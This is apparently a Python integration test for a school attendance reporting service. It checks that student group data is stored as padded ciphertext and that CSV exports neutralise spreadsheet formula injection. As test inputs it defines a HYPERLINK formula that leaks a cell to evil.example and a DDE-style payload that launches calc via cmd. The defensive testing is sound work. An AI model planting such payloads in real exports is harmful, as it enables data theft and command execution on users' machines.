"""Students' groups are ciphertext in eligibility's database, reports still count them, and the CSV runs no formula.

A school of six students over 20 days, fed through the consumer: g1 absent twice (.1, moderately chronic), the
others never. g1-g3 are in a grade whose name the SIS sent as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date

import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

from rollcall_shared.events import AttendanceCategory, GroupPeriod
from tests.eligibility.report_district import enroll, groups, served_district
from tests.support.events import Feed, school_days
from tests.support.stored import plaintext_in, stored_bytes

pytestmark = pytest.mark.integration

DAYS = school_days(date(2021, 9, 1), 20)
FORMULA_GRADE = '=HYPERLINK("https://evil.example/?leak="&A2,"Ninth grade")'
FORMULA_RACE = "@SUM(1+1)*cmd|' /C calc'!A0"
GROUPS = ("Female", "Male", "Hispanic or Latino", "White", "homeless", "english-learner", "foster-care",
          "special-education", "SUM(1+1)", "2020-08-20")  # fmt: skip


def school(district_id: str) -> list[tuple[str, bytes]]:
    feed = Feed(district_id, "100").calendar(DAYS)
    for student, grade in (("g1", FORMULA_GRADE), ("g2", FORMULA_GRADE), ("g3", FORMULA_GRADE),
                           ("g4", "Tenth grade"), ("g5", "Tenth grade"), ("g6", "Tenth grade")):  # fmt: skip
        enroll(feed, student, grade, entry=DAYS[0])
    feed.daily("g1", DAYS[2], AttendanceCategory.UNEXCUSED_ABSENCE)
    feed.daily("g1", DAYS[3], AttendanceCategory.UNEXCUSED_ABSENCE)
    for student in ("g1", "g2", "g3", "g4", "g5", "g6"):
        feed.close(student, DAYS[-1], DAYS)
    groups(feed, "g1", "Female", "Hispanic or Latino", GroupPeriod(group="homeless", begin_date=date(2021, 8, 1)))
    groups(feed, "g2", "Male", FORMULA_RACE, GroupPeriod(group="english-learner", begin_date=date(2020, 8, 20)))
    groups(feed, "g4", "Female", "White", GroupPeriod(group="foster-care"), GroupPeriod(group="special-education"))
    groups(feed, "g5", "Male", None)
    return feed.messages()


def stored_profiles(database_url: str, district_id: str) -> list[int]:
    """The length of each stored profile token, as the database holds it."""
    engine = create_engine(make_url(database_url).set(drivername="postgresql+psycopg"))
    try:
        with engine.connect() as connection:
            query = text("SELECT length(profile) FROM student_groups WHERE district_id = :d")
            return list(connection.scalars(query, {"d": district_id}))
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
async def district(kafka_bootstrap, databases):
    url = databases.create(f"eligibility_rest_{uuid.uuid4().hex[:6]}", migrate="eligibility")
    async with served_district(kafka_bootstrap, databases, feed=school, database_url=url) as (client, path):
        yield client, path, url, path.split("/")[3]


async def test_groups_are_ciphertext_at_rest_of_one_length_and_reports_still_count_them(district):
    client, path, url, district_id = district
    as_of = {"asOf": DAYS[-1].isoformat()}
    counts = {}
    for dimension in ("sex", "raceEthnicity", "englishLearner", "homeless", "fosterCare", "specialEducation"):
        answer = await client.get(f"{path}/attendance", params=as_of | {"groupBy": dimension})
        assert answer.status_code == 200, answer.text
        counts[dimension] = [(row["by"][dimension], row["students"]) for row in answer.json()["rows"]]

    stored = stored_bytes(url, district_id, "student_groups")
    assert len(stored.splitlines()) == 4, "a row for each student ingest said anything of"
    assert plaintext_in(stored, *GROUPS) == []
    assert len(set(stored_profiles(url, district_id))) == 1, "padded: no token's length tells a race from another"
    assert counts == {
        "sex": [("Female", 2), ("Male", 2), ("Not reported", 2)],
        "raceEthnicity": [(FORMULA_RACE, 1), ("Hispanic or Latino", 1), ("Not reported", 3), ("White", 1)],
        "englishLearner": [("no", 5), ("yes", 1)],
        "homeless": [("no", 5), ("yes", 1)],
        "fosterCare": [("no", 5), ("yes", 1)],
        "specialEducation": [("no", 5), ("yes", 1)],
    }


async def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_numbers_stay_numbers(district):
    client, path, _, _ = district
    by_grade = await client.get(f"{path}/attendance.csv", params={"asOf": DAYS[-1].isoformat(), "groupBy": "grade"})
    by_race = await client.get(f"{path}/attendance.csv", params={"asOf": DAYS[-1].isoformat(),
                                                                  "groupBy": "raceEthnicity"})  # fmt: skip
    report = await client.get(f"{path}/attendance", params={"asOf": DAYS[-1].isoformat(), "groupBy": "grade"})

    assert by_grade.status_code == by_race.status_code == 200
    grades = {line["grade"]: line for line in csv.DictReader(io.StringIO(by_grade.text))}
    assert set(grades) == {f"'{FORMULA_GRADE}", "Tenth grade", "All"}
    # 1 - .1 / 3; bands 2 satisfactory, 1 moderately chronic of 3; and the district: 1 - .1 / 6
    assert [grades[f"'{FORMULA_GRADE}"][name] for name in ("students", "averageAttendanceRate", "moderateChronic")] == [
        "3", "0.9667", "0.3333"]  # fmt: skip
    assert [grades["All"][name] for name in ("students", "averageAttendanceRate", "moderateChronic")] == [
        "6", "0.9833", "0.1667"]  # fmt: skip
    races = [line["raceEthnicity"] for line in csv.DictReader(io.StringIO(by_race.text))]
    assert f"'{FORMULA_RACE}" in races and FORMULA_RACE not in races
    assert {row["by"]["grade"] for row in report.json()["rows"]} == {FORMULA_GRADE, "Tenth grade"}, "JSON as sent"
